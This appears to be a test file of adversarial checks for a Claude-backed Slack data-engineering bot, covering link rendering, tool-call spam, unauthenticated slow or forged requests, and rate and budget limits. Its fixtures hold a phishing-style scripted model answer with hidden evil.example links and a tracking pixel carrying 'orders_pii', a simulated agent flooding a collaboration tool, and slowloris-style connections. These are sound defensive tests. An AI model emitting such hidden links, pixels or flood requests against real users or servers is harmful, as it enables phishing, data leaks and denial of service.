import { type ChildProcess, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import Database from 'better-sqlite3';
import { afterEach, describe, expect, it } from 'vitest';
import {
  dataEngineeringAnswer,
  type MessageReply,
  startFakeAnthropic,
  textReply,
} from '../support/fake-anthropic.js';
import { FAKE_BOT_USER_ID, FAKE_TEAM_ID, type RecordedCall, startFakeSlack } from '../support/fake-slack.js';
import { type Harness, startHarness, TEST_SECRETS } from '../support/harness.js';
import { blockActionsBody, eventEnvelope, postSigned, slashCommandBody } from '../support/slack-signing.js';
import { until } from '../support/wait.js';

const CHANNEL = 'C0DATA001';
const ANA = 'U0ANA0001';
const BOB = 'U0BOB0001';
const ADMIN = 'U0ADMIN01';
const ROLES = ['backend', 'devops', 'security', 'qa'] as const;
const OWNERS = { backend: 'U0BACK001', devops: 'U0DEVO001', security: 'U0SECU001', qa: 'U0QUAL001' };

let eventCount = 0;
/** A human message in CHANNEL delivered as Slack would (an app_mention when it mentions the bot). */
async function say(harness: Harness, text: string, opts: { threadTs?: string; user?: string } = {}) {
  const user = opts.user ?? ANA;
  const message = harness.slack.seedMessage({
    channel: CHANNEL,
    user,
    text,
    ...(opts.threadTs ? { thread_ts: opts.threadTs } : {}),
  });
  eventCount += 1;
  const response = await postSigned(
    `${harness.app.url}/slack/events`,
    eventEnvelope(
      {
        type: text.includes(`<@${FAKE_BOT_USER_ID}>`) ? 'app_mention' : 'message',
        channel: CHANNEL,
        channel_type: 'channel',
        user,
        text,
        ts: message.ts,
        ...(opts.threadTs ? { thread_ts: opts.threadTs } : {}),
      },
      { event_id: `EvAdversarial${eventCount}` },
    ),
    { signingSecret: TEST_SECRETS.signingSecret, contentType: 'application/json' },
  );
  return { ts: message.ts, status: response.status };
}

let h: Harness | undefined;
afterEach(async () => {
  await h?.close();
  h = undefined;
});

/** Runs one `/data-engineer` task to the end. */
async function runTask(harness: Harness, text: string, user = ANA): Promise<void> {
  const response = await harness.command(text, { user_id: user, channel_id: CHANNEL });
  expect(response.status).toBe(200);
  await harness.app.idle();
}

/** Every piece of message text a call carried to Slack (text, markdown_text, stream chunks). */
function textsOf(call: RecordedCall): string[] {
  const chunks = Array.isArray(call.args.chunks) ? call.args.chunks : [];
  return [call.args.text, call.args.markdown_text, ...chunks.map((c: { text?: string }) => c.text)].filter(
    (t): t is string => typeof t === 'string',
  );
}

const MESSAGE_METHODS = [
  'chat.postMessage',
  'chat.update',
  'chat.startStream',
  'chat.appendStream',
  'chat.stopStream',
];

describe('10.4 no hidden link targets, no previews', () => {
  const HOSTILE =
    'Your warehouse session expired. [Re-authenticate](https://evil.example/login?next=sso) first, ' +
    'or <https://evil.example/reset|click here to reset>. Status: ![ok](https://evil.example/pixel.png?d=orders_pii)\n\n' +
    `${dataEngineeringAnswer('Orders mart')}\n\nDocs: [dbt docs][1]\n\n[1]: https://evil.example/ref\n`;

  function answerTexts(harness: Harness): string[] {
    return MESSAGE_METHODS.flatMap((m) => harness.slack.callsTo(m))
      .filter(
        (c) => c.args.thread_ts !== undefined || c.method !== 'chat.postMessage' || c.args.markdown_text,
      )
      .flatMap(textsOf);
  }

  function expectNoHiddenTargets(harness: Harness): void {
    const finals = harness.slack.messages.filter((m) => m.markdown_text?.includes('evil.example'));
    expect(finals.length).toBeGreaterThan(0);
    const shown = finals.map((m) => m.markdown_text ?? '').join('\n');
    // Every target is visible next to its label, and nothing can still render as a link or an image.
    expect(shown).toContain('Re-authenticate (https://evil.example/login?next=sso)');
    expect(shown).toContain('click here to reset (https://evil.example/reset)');
    expect(shown).toContain('`https://evil.example/pixel.png?d=orders_pii`');
    expect(shown).not.toMatch(/\]\(|\]:|\|click|!\[/);
    for (const text of answerTexts(harness)) expect(text).not.toMatch(/\]\(|\]:|\|click|!\[/);
  }

  it('a streamed answer shows every link target and no image', async () => {
    h = await startHarness();
    h.anthropic.script(textReply(HOSTILE, { tokensPerSecond: 4000 }));
    await runTask(h, 'design the orders mart');
    expect(h.slack.callsTo('chat.startStream').length).toBeGreaterThan(0);
    expectNoHiddenTargets(h);
  });

  it('a posted answer (streaming refused) has unfurls off on every post, and visible targets', async () => {
    h = await startHarness();
    h.slack.refuseStreaming();
    h.anthropic.script(textReply(HOSTILE, { tokensPerSecond: 4000 }));
    await runTask(h, 'design the orders mart');
    const posts = h.slack.callsTo('chat.postMessage');
    expect(posts.filter((p) => p.args.markdown_text).length).toBeGreaterThan(0);
    for (const post of posts) {
      expect(String(post.args.unfurl_links), JSON.stringify(post.args).slice(0, 200)).toBe('false');
      expect(String(post.args.unfurl_media)).toBe('false');
    }
    expectNoHiddenTargets(h);
  });

  it('a short answer shows the target beside its label', async () => {
    h = await startHarness();
    h.anthropic.script(textReply('See [the runbook](https://evil.example/runbook).'));
    await runTask(h, 'where is the runbook');
    const answer = h.slack.messages.find((m) => m.markdown_text?.includes('runbook'));
    expect(answer?.markdown_text).toBe('See the runbook (https://evil.example/runbook).');
  });
});

describe('10.3 the agent cannot spam pings', () => {
  /** A model round that calls request_collaboration `calls` times, each with a new topic. */
  function spamRound(first: number, calls: number): MessageReply {
    return {
      kind: 'message',
      content: [
        { type: 'text', text: `Part ${first}.\n` },
        ...Array.from({ length: calls }, (_, i) => ({
          type: 'tool_use' as const,
          name: 'request_collaboration',
          input: {
            role: ROLES[(first + i) % ROLES.length],
            topic: `Urgent topic number ${first + i}`,
            request: `Please review item ${first + i} of the design today, it is very important.`,
            reason: 'The model wants attention.',
          },
        })),
      ],
    };
  }

  it('40 calls with distinct topics ping each role at most once (4 pings), and the model is told why', async () => {
    h = await startHarness({ env: { BOT_ADMINS: ADMIN } });
    for (const id of [ADMIN, ANA, ...Object.values(OWNERS)]) h.slack.addUser({ id });
    for (const role of ROLES) {
      const response = await h.command(`owners set ${role} <@${OWNERS[role]}>`, { user_id: ADMIN });
      expect(response.status).toBe(200);
    }
    // Four tool rounds of ten calls each (the most rounds an answer may take), then the answer.
    h.anthropic.script(
      spamRound(0, 10),
      spamRound(10, 10),
      spamRound(20, 10),
      spamRound(30, 10),
      textReply('Done.'),
    );
    const { ts: threadTs } = await say(h, `<@${FAKE_BOT_USER_ID}> design the orders mart`);
    await h.app.idle();

    const pings = h.slack
      .threadMessages(CHANNEL, threadTs)
      .filter((m) => /<@U0(BACK|DEVO|SECU|QUAL)001>/.test(m.text ?? ''));
    expect(pings.length).toBeLessThanOrEqual(4);
    expect(new Set(pings.map((p) => p.text?.match(/<@(U\w+)>/)?.[1]))).toEqual(
      new Set(Object.values(OWNERS)),
    );
    expect(h.query('select id from collaboration_requests')).toHaveLength(4);
    // Every refused call got a tool result telling the model the role was already asked.
    const results = h.anthropic.requests
      .filter((r) => r.path === '/v1/messages')
      .flatMap((r) => JSON.stringify(r.body.messages.at(-1)).match(/already asked/g) ?? []);
    expect(results.length).toBe(36);

    // A follow-up in the same task with forty more calls adds nothing either.
    h.anthropic.script(spamRound(40, 20), spamRound(60, 20), textReply('Still done.'));
    await say(h, 'and the refunds table?', { threadTs });
    await h.app.idle();
    const after = h.slack
      .threadMessages(CHANNEL, threadTs)
      .filter((m) => /<@U0(BACK|DEVO|SECU|QUAL)001>/.test(m.text ?? ''));
    expect(after.length).toBeLessThanOrEqual(4);
    expect(h.query('select id from collaboration_requests')).toHaveLength(4);
  });
});

describe('10.3 a request marked done does not open the role again', () => {
  const securityAsk = (topic: string): MessageReply => ({
    kind: 'message',
    content: [
      { type: 'text', text: 'Checking with security.\n' },
      {
        type: 'tool_use',
        name: 'request_collaboration',
        input: {
          role: 'security',
          topic,
          request: `Please review ${topic} before we ship the pipeline.`,
          reason: 'It handles customer data.',
        },
      },
    ],
  });

  it('after Done on the security request, a follow-up asking security again pings no one', async () => {
    h = await startHarness({ env: { BOT_ADMINS: ADMIN } });
    for (const id of [ADMIN, ANA, OWNERS.security]) h.slack.addUser({ id });
    const set = await h.command(`owners set security <@${OWNERS.security}>`, { user_id: ADMIN });
    expect(set.status).toBe(200);
    h.anthropic.script(securityAsk('PII columns in orders'), textReply('Here is the design.'));
    const { ts: threadTs } = await say(h, `<@${FAKE_BOT_USER_ID}> design the orders mart`);
    await h.app.idle();
    const securityPings = () =>
      h?.slack.threadMessages(CHANNEL, threadTs).filter((m) => m.text?.includes(`<@${OWNERS.security}>`)) ??
      [];
    expect(securityPings()).toHaveLength(1);
    const [request] = h.query<{ id: number; ping_ts: string }>(
      'select id, ping_ts from collaboration_requests',
    );

    // The requester presses Done on the ping.
    const done = await postSigned(
      `${h.app.url}/slack/events`,
      blockActionsBody({
        userId: ANA,
        channelId: CHANNEL,
        messageTs: request?.ping_ts ?? '',
        actionId: 'collaboration_done',
        value: String(request?.id),
        responseUrl: h.slack.responseUrl(),
      }),
      { signingSecret: TEST_SECRETS.signingSecret, contentType: 'application/x-www-form-urlencoded' },
    );
    expect(done.status).toBe(200);
    await h.app.idle();
    await until(() => h?.query("select id from collaboration_requests where status = 'done'").length === 1);

    // A follow-up whose model asks security again, on a new topic.
    h.anthropic.script(securityAsk('Retention of refunds data'), textReply('Updated design.'));
    await say(h, 'and the refunds table?', { threadTs });
    await h.app.idle();
    expect(securityPings()).toHaveLength(1);
    expect(h.query('select id from collaboration_requests')).toHaveLength(1);
    const told = h.anthropic.requests
      .filter((r) => r.path === '/v1/messages')
      .map((r) => JSON.stringify(r.body.messages.at(-1)))
      .filter((last) => last.includes('already asked'));
    expect(told).toHaveLength(1);
    expect(told[0]).toContain('status: done');
  });
});

describe('10.8 unauthenticated requests cost nothing', () => {
  const root = resolve(fileURLToPath(import.meta.url), '../../..');
  const tsxLoader = pathToFileURL(join(root, 'node_modules/tsx/dist/loader.mjs')).href;
  const sockets: Socket[] = [];
  let child: ChildProcess | undefined;
  let dir: string | undefined;
  afterEach(() => {
    for (const socket of sockets.splice(0)) socket.destroy();
    child?.kill('SIGKILL');
    child = undefined;
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  /** Resident memory of a process, in MB (Linux). */
  function rssMb(pid: number): number {
    const line = readFileSync(`/proc/${pid}/status`, 'utf8').match(/VmRSS:\s+(\d+) kB/);
    return Number(line?.[1] ?? 0) / 1024;
  }

  /** A raw connection that sends `head` (and optionally part of a body) and then stays open. */
  function openRaw(
    port: number,
    head: string,
    body?: Buffer,
  ): { socket: Socket; received: () => string; closed: () => boolean } {
    const socket = connect(port, '127.0.0.1');
    let received = '';
    let closed = false;
    socket.on('data', (chunk) => {
      received += chunk.toString('latin1');
    });
    socket.on('close', () => {
      closed = true;
    });
    socket.on('error', () => undefined);
    socket.write(head);
    if (body) socket.write(body);
    sockets.push(socket);
    return { socket, received: () => received, closed: () => closed };
  }

  it('200 slow unsigned connections: refused before their bodies, the bot still answers, memory and logs stay flat', async () => {
    const slack = await startFakeSlack();
    const anthropic = await startFakeAnthropic();
    dir = mkdtempSync(join(tmpdir(), 'deb-adv-'));
    const port = 20_000 + Math.floor(Math.random() * 20_000);
    let out = '';
    child = spawn(process.execPath, ['--import', tsxLoader, join(root, 'src/main.ts')], {
      cwd: dir,
      env: {
        PATH: process.env.PATH ?? '',
        SLACK_BOT_TOKEN: TEST_SECRETS.botToken,
        SLACK_SIGNING_SECRET: TEST_SECRETS.signingSecret,
        SLACK_API_URL: slack.apiUrl,
        ANTHROPIC_API_KEY: TEST_SECRETS.apiKey,
        ANTHROPIC_BASE_URL: anthropic.url,
        DATABASE_PATH: join(dir, 'data', 'bot.db'),
        PORT: String(port),
        HOST: '127.0.0.1',
      },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    child.stdout?.on('data', (chunk) => {
      out += chunk;
    });
    child.stderr?.on('data', (chunk) => {
      out += chunk;
    });
    const pid = child.pid ?? 0;
    const base = `http://127.0.0.1:${port}`;
    try {
      await until(
        async () => (await fetch(`${base}/healthz`).catch(() => undefined))?.status === 200,
        30_000,
      );
      const signedCommand = async (text: string) => {
        const response = await postSigned(
          `${base}/slack/events`,
          slashCommandBody({ text, team_id: FAKE_TEAM_ID, response_url: slack.responseUrl(), user_id: ANA }),
          { signingSecret: TEST_SECRETS.signingSecret, contentType: 'application/x-www-form-urlencoded' },
        );
        expect(response.status).toBe(200);
        await until(() => slack.messages.some((m) => m.markdown_text?.includes(`Solution: ${text}`)), 30_000);
      };
      anthropic.setDefault((req) => {
        const asked = JSON.stringify(req.body.messages).match(/task number (\d)/)?.[1] ?? '?';
        return textReply(dataEngineeringAnswer(`task number ${asked}`));
      });
      // Warm up (first requests compile code and grow the heap); the baseline is the highest resident
      // memory seen while the bot does ordinary work, since a garbage collection can land anywhere.
      let before = 0;
      const sampler = setInterval(() => {
        before = Math.max(before, rssMb(pid));
      }, 20);
      await signedCommand('task number 1');
      await Promise.all(
        Array.from({ length: 20 }, () => fetch(`${base}/slack/events`, { method: 'POST', body: 'token=x' })),
      );
      await signedCommand('task number 3');
      clearInterval(sampler);
      before = Math.max(before, rssMb(pid));

      const fresh = Math.floor(Date.now() / 1000);
      const bigBody = Buffer.alloc(900_000, 'a');
      const head = (extra: string) =>
        'POST /slack/events HTTP/1.1\r\nHost: bot\r\nContent-Type: application/x-www-form-urlencoded\r\n' +
        `Content-Length: 1000000\r\n${extra}\r\n`;
      // 80 send their headers one slow line at a time and never finish them.
      const slow = Array.from({ length: 80 }, () =>
        openRaw(port, 'POST /slack/events HTTP/1.1\r\nHost: bot\r\n'),
      );
      const drip = setInterval(() => {
        for (const s of slow)
          if (!s.socket.destroyed) s.socket.write(`X-Slow-${randomBytes(2).toString('hex')}: y\r\n`);
      }, 200);
      // 80 declare a 1 MB body without any signature, send 900 kB of it and wait.
      const unsigned = Array.from({ length: 80 }, () => openRaw(port, head(''), bigBody));
      // 40 carry well-formed but false signatures and a fresh timestamp, send 900 kB and wait.
      const forged = Array.from({ length: 40 }, () =>
        openRaw(
          port,
          head(
            `X-Slack-Request-Timestamp: ${fresh}\r\nX-Slack-Signature: v0=${randomBytes(32).toString('hex')}\r\n`,
          ),
          bigBody,
        ),
      );
      try {
        // Every unsigned one is answered 401 (or, should the answer race a reset, closed) although its
        // body never arrived whole.
        await until(
          () => unsigned.every((u) => u.received().startsWith('HTTP/1.1 401') || u.closed()),
          15_000,
        );
        expect(unsigned.filter((u) => u.received().startsWith('HTTP/1.1 401')).length).toBeGreaterThan(40);
        // 200 quick unsigned requests on top: each refused, but the log is not flooded.
        const quick = await Promise.all(
          Array.from({ length: 200 }, () =>
            fetch(`${base}/slack/events`, { method: 'POST', body: 'token=x' }).then((r) => r.status),
          ),
        );
        expect(new Set(quick)).toEqual(new Set([401]));
        await signedCommand('task number 2');
        expect(slow.filter((s) => !s.socket.destroyed).length).toBeGreaterThan(0);
        expect(forged.length).toBe(40);
        // The lowest of a few samples: a collection in progress can briefly hold garbage it frees at once,
        // while memory the refused connections really held would stay in every sample.
        let after = rssMb(pid);
        for (let i = 0; i < 5; i++) {
          await new Promise((done) => setTimeout(done, 100));
          after = Math.min(after, rssMb(pid));
        }
        expect(after - before, `RSS ${before.toFixed(1)} MB → ${after.toFixed(1)} MB`).toBeLessThan(30);
      } finally {
        clearInterval(drip);
      }
      const refusalLines = out.split('\n').filter((line) => line.includes('refused a request'));
      expect(refusalLines.length).toBeLessThanOrEqual(10);
    } finally {
      await Promise.all([slack.close(), anthropic.close()]);
    }
  }, 90_000);
});

describe('10.7 one person cannot starve the rest or run up the bill', () => {
  const ask = (harness: Harness, text: string, user = ANA) =>
    harness.command(text, { user_id: user, channel_id: CHANNEL });
  /** The Slack time token in a refusal: `<!date^SECONDS^{time}|HH:MM UTC>`. */
  const timeIn = (text: string) => Number(text.match(/<!date\^(\d+)\^\{time\}\|\d\d:\d\d UTC>/)?.[1]);
  const modelSaw = (harness: Harness, words: string) =>
    harness.anthropic.requests.some((r) => JSON.stringify(r.body?.messages ?? '').includes(words));

  it('the 21st task in an hour is refused privately with the time to ask again, and nothing is stored', async () => {
    h = await startHarness({ env: { USER_TASKS_PER_HOUR: '' } }); // the default, 20
    for (let i = 1; i <= 20; i += 1) {
      const response = await ask(h, `pipeline number ${i}`);
      expect(response.json?.text).toContain('working on it');
    }
    const [first] = h.query<{ created_at: number }>(
      'select at as created_at from admissions order by at limit 1',
    );
    const refused = await ask(h, 'pipeline number 21');
    expect(refused.status).toBe(200);
    expect(refused.json).toMatchObject({ response_type: 'ephemeral' });
    expect(refused.json?.text).toContain('in the last hour');
    expect(timeIn(refused.json?.text ?? '')).toBe(Math.floor(((first?.created_at ?? 0) + 3_600_000) / 1000));
    await h.app.idle();
    expect(h.query('select id from tasks')).toHaveLength(20);
    expect(h.slack.messages.some((m) => m.text?.includes('pipeline number 21'))).toBe(false);
    expect(modelSaw(h, 'pipeline number 21')).toBe(false);
    // Someone else is not affected.
    expect((await ask(h, 'pipeline for bob', BOB)).json?.text).toContain('working on it');
  });

  it('follow-ups count too, and the count survives a restart', async () => {
    h = await startHarness({ env: { USER_TASKS_PER_HOUR: '3' } });
    const { ts: threadTs } = await say(h, `<@${FAKE_BOT_USER_ID}> design the orders mart`);
    await h.app.idle();
    await say(h, 'add refunds please', { threadTs });
    await h.app.idle();
    await say(h, 'and hourly freshness', { threadTs });
    await h.app.idle();
    const requestsBefore = h.anthropic.requests.length;
    await say(h, 'and a fourth message', { threadTs });
    await h.app.idle();
    const note = h.slack.ephemerals.at(-1);
    expect(note).toMatchObject({ channel: CHANNEL, user: ANA, thread_ts: threadTs });
    expect(note?.text).toContain('in the last hour');
    expect(timeIn(note?.text ?? '')).toBeGreaterThan(Date.now() / 1000);
    expect(h.anthropic.requests.length).toBe(requestsBefore);
    expect(h.query("select id from turns where content like '%fourth%'")).toHaveLength(0);

    await h.restart();
    const refused = await ask(h, 'a new task after the restart');
    expect(refused.json?.text).toContain('in the last hour');
    await h.app.idle();
    expect(modelSaw(h, 'a new task after the restart')).toBe(false);
  });

  it('the last allowed follow-up, delivered twice (app_mention and message), is answered once and not refused', async () => {
    h = await startHarness({ env: { USER_TASKS_PER_HOUR: '2' } });
    const { ts: threadTs } = await say(h, `<@${FAKE_BOT_USER_ID}> design the orders mart`);
    await h.app.idle();
    const text = `<@${FAKE_BOT_USER_ID}> and refunds?`;
    const message = h.slack.seedMessage({ channel: CHANNEL, user: ANA, text, thread_ts: threadTs });
    for (const type of ['app_mention', 'message']) {
      const response = await postSigned(
        `${h.app.url}/slack/events`,
        eventEnvelope(
          {
            type,
            channel: CHANNEL,
            channel_type: 'channel',
            user: ANA,
            text,
            ts: message.ts,
            thread_ts: threadTs,
          },
          { event_id: `EvTwin${type}` },
        ),
        { signingSecret: TEST_SECRETS.signingSecret, contentType: 'application/json' },
      );
      expect(response.status).toBe(200);
      await h.app.idle();
    }
    expect(h.slack.ephemerals).toHaveLength(0);
    expect(h.query("select id from turns where role = 'assistant'")).toHaveLength(2);
  });

  it('a spent daily token budget refuses new tasks and follow-ups with a clear message, also after a restart', async () => {
    h = await startHarness({ env: { DAILY_TOKEN_BUDGET: '1000' } });
    await runTask(h, 'design the orders mart');
    const [task] = h.query<{ thread_ts: string }>('select thread_ts from tasks');
    const calls = h.anthropic.requests.length;
    const refused = await ask(h, 'design the refunds mart');
    expect(refused.json).toMatchObject({ response_type: 'ephemeral' });
    expect(refused.json?.text).toContain("today's Claude budget (1,000 tokens)");
    expect(timeIn(refused.json?.text ?? '') % 86_400).toBe(0); // midnight UTC
    await say(h, 'and refunds?', { threadTs: task?.thread_ts ?? '', user: BOB });
    await h.app.idle();
    expect(h.slack.ephemerals.at(-1)?.text).toContain("today's Claude budget");
    // A mention that would start a task: refused where it would be stored, privately, nothing kept.
    const notes = h.slack.ephemerals.length;
    await say(h, `<@${FAKE_BOT_USER_ID}> design the payments mart`, { user: BOB });
    await h.app.idle();
    expect(h.slack.ephemerals).toHaveLength(notes + 1);
    expect(h.slack.ephemerals.at(-1)).toMatchObject({ user: BOB });
    expect(h.slack.ephemerals.at(-1)?.text).toContain("today's Claude budget");
    expect(h.query('select id from events_seen where task_id is null')).toHaveLength(0);
    await h.restart();
    expect((await ask(h, 'one more after the restart')).json?.text).toContain("today's Claude budget");
    await h.app.idle();
    expect(h.anthropic.requests.length).toBe(calls);
    expect(h.query('select id from tasks')).toHaveLength(1);
  });

  it('a spent daily token budget refuses the Retry button too: no model call, the task stays failed', async () => {
    h = await startHarness({
      env: { DAILY_TOKEN_BUDGET: '1000', ANTHROPIC_RETRY_DEADLINE_SECONDS: '1' },
      tuning: { anthropicStreamRetries: 100 },
    });
    // The first task fails (Claude overloaded past the deadline: no tokens used), the second spends the budget.
    h.anthropic.script({ kind: 'error', status: 529, type: 'overloaded_error', retryAfter: 2 });
    await runTask(h, 'design the orders mart');
    await runTask(h, 'design the refunds mart');
    const [failed] = h.query<{ id: number; thread_ts: string }>(
      "select id, thread_ts from tasks where status = 'failed'",
    );
    const note = h.slack.messages.find(
      (m) => m.thread_ts === failed?.thread_ts && m.ts !== failed?.thread_ts,
    );
    const calls = h.anthropic.requests.length;
    const click = await postSigned(
      `${h.app.url}/slack/events`,
      blockActionsBody({
        userId: BOB,
        channelId: CHANNEL,
        messageTs: note?.ts ?? '',
        actionId: 'task_retry',
        value: String(failed?.id),
        responseUrl: h.slack.responseUrl(),
      }),
      { signingSecret: TEST_SECRETS.signingSecret, contentType: 'application/x-www-form-urlencoded' },
    );
    expect(click.status).toBe(200);
    await until(() => h?.slack.responses.length === 1);
    await h.app.idle();
    expect(JSON.stringify(h.slack.responses[0]?.body)).toContain("today's Claude budget");
    expect(h.anthropic.requests.length).toBe(calls);
    expect(h.query("select id from tasks where status = 'failed'")).toHaveLength(1);
  });

  it('a deleted follow-up still counts: 20 replies each deleted in Slack, then the 21st is refused', async () => {
    h = await startHarness({ env: { USER_TASKS_PER_HOUR: '' } }); // the default, 20
    const { ts: threadTs } = await say(h, `<@${FAKE_BOT_USER_ID}> design the orders mart`, { user: BOB });
    await h.app.idle();
    for (let i = 1; i <= 20; i += 1) {
      const text = `follow-up number ${i}`;
      const { ts } = await say(h, text, { threadTs });
      await h.app.idle();
      // Slack's message_deleted for that reply: its stored turn goes, but its answer was already paid for.
      eventCount += 1;
      const now = Math.floor(Date.now() / 1000);
      const response = await postSigned(
        `${h.app.url}/slack/events`,
        eventEnvelope(
          {
            type: 'message',
            subtype: 'message_deleted',
            hidden: true,
            channel: CHANNEL,
            channel_type: 'channel',
            ts: `${now}.${String(900_000 + i).padStart(6, '0')}`,
            deleted_ts: ts,
            event_ts: `${now}.${String(900_000 + i).padStart(6, '0')}`,
            previous_message: { type: 'message', user: ANA, text, ts, thread_ts: threadTs },
          },
          { event_id: `EvDeleted${eventCount}` },
        ),
        { signingSecret: TEST_SECRETS.signingSecret, contentType: 'application/json' },
      );
      expect(response.status).toBe(200);
      await until(() => h?.query('select id from turns where content = ?', text).length === 0);
    }
    expect(h.slack.ephemerals).toHaveLength(0);
    const requestsBefore = h.anthropic.requests.length;
    await say(h, 'follow-up number 21', { threadTs });
    await h.app.idle();
    expect(h.slack.ephemerals.at(-1)).toMatchObject({ channel: CHANNEL, user: ANA });
    expect(h.slack.ephemerals.at(-1)?.text).toContain('in the last hour');
    expect(h.anthropic.requests.length).toBe(requestsBefore);
    expect(modelSaw(h, 'follow-up number 21')).toBe(false);
  });

  it("Retry presses count toward the presser's hourly limit", async () => {
    h = await startHarness({ env: { USER_TASKS_PER_HOUR: '2' } });
    const fail = {
      kind: 'error',
      status: 400,
      type: 'invalid_request_error',
      message: 'Bad request',
    } as const;
    h.anthropic.setDefault(fail);
    await runTask(h, 'design the orders mart'); // 1 of 2, fails
    const [task] = h.query<{ id: number; thread_ts: string }>(
      "select id, thread_ts from tasks where status = 'failed'",
    );
    const press = async () => {
      const before = h?.slack.responses.length ?? 0;
      const click = await postSigned(
        `${h?.app.url}/slack/events`,
        blockActionsBody({
          userId: ANA,
          channelId: CHANNEL,
          messageTs: h?.slack.threadMessages(CHANNEL, task?.thread_ts ?? '').at(-1)?.ts ?? '',
          actionId: 'task_retry',
          value: String(task?.id),
          responseUrl: h?.slack.responseUrl() ?? '',
        }),
        { signingSecret: TEST_SECRETS.signingSecret, contentType: 'application/x-www-form-urlencoded' },
      );
      expect(click.status).toBe(200);
      await h?.app.idle();
      return h?.slack.responses.slice(before).map((r) => JSON.stringify(r.body)) ?? [];
    };
    const calledBefore = h.anthropic.requests.length;
    expect(await press()).toEqual([]); // 2 of 2: accepted, runs, fails again
    expect(h.anthropic.requests.length).toBeGreaterThan(calledBefore);
    await until(() => h?.query("select id from tasks where status = 'failed'").length === 1);
    const calls = h.anthropic.requests.length;
    const before = h.slack.responses.length;
    await press();
    expect(h.anthropic.requests.length).toBe(calls);
    await until(() => (h?.slack.responses.length ?? 0) > before);
    expect(JSON.stringify(h.slack.responses.at(-1)?.body)).toContain('in the last hour');
    expect(h.query("select id from tasks where status = 'failed'")).toHaveLength(1);
  });

  it('admissions older than a day are pruned at start-up; the last day keeps its own', async () => {
    h = await startHarness({ env: { USER_TASKS_PER_HOUR: '5' } });
    await runTask(h, 'design the orders mart');
    await runTask(h, 'design the refunds mart');
    // A writable connection stands in for the passing time: one admission two days old, one two hours.
    const writer = new Database(h.databasePath);
    try {
      writer.prepare('update admissions set at = ? where id = 1').run(Date.now() - 2 * 24 * 3_600_000);
      writer.prepare('update admissions set at = ? where id = 2').run(Date.now() - 2 * 3_600_000);
    } finally {
      writer.close();
    }
    await h.restart(); // pruning runs at start-up (then every 24 h)
    expect(h.query<{ id: number }>('select id from admissions').map((r) => r.id)).toEqual([2]);
  });

  it("a second person's first answer starts within one job slot of another's 50-task burst", async () => {
    h = await startHarness({ env: { MAX_CONCURRENT_GENERATIONS: '1', USER_TASKS_PER_HOUR: '100' } });
    let open: () => void = () => undefined;
    const gate = new Promise<void>((resolve) => {
      open = resolve;
    });
    h.anthropic.script(textReply('First answer.', { gate }));
    h.anthropic.setDefault(textReply('Another answer.'));
    for (let i = 1; i <= 50; i += 1) expect((await ask(h, `ana burst task ${i}`)).status).toBe(200);
    await until(() => h?.anthropic.requests.length === 1);
    expect((await ask(h, 'bob first question', BOB)).status).toBe(200);
    open();
    await until(() => modelSaw(h as Harness, 'bob first question'), 60_000);
    const order = h.anthropic.requests.map((r) => JSON.stringify(r.body?.messages ?? ''));
    const bobAt = order.findIndex((m) => m.includes('bob first question'));
    // Request 0 is Ana's first task (running when Bob asked); Bob's is the very next one taken.
    expect(bobAt).toBe(1);
    await h.app.idle();
  }, 120_000);
});
